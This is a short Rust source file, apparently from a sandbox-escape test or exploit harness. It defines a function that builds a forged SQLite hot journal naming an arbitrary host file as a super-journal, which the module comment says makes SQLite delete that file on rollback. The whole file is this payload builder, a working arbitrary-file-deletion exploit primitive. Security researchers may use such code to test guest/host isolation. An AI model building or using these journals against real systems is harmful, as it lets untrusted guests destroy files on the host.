//! The journal by which a guest has SQLite delete a file of the host.

use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;

const MAGIC: [u8; 8] = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];

/// A journal that begins with `start` and names `victim` as the journal of a transaction over several databases. That is
/// what SQLite deletes when it has rolled back the last of them.
pub fn hot_journal(start: &[u8], victim: &Path) -> Vec<u8> {
    let name = victim.as_os_str().as_bytes();
    let sum: u32 = name.iter().map(|byte| u32::from(*byte)).sum();
    let mut bytes = start.to_vec();
    bytes.extend(1_u32.to_be_bytes());
    bytes.extend(name);
    bytes.extend((name.len() as u32).to_be_bytes());
    bytes.extend(sum.to_be_bytes());
    bytes.extend(MAGIC);
    bytes
}
